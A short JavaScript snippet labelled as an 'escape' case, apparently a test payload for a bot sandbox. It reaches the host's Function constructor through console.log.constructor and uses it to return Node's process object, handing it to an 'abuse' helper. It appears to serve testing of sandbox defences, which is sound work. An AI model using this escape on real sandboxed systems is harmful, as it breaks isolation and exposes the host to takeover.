// family: escape
// a function of the console gives the host's Function
async function main (bot) {
  abuse(bot, console.log.constructor('return process')())
}
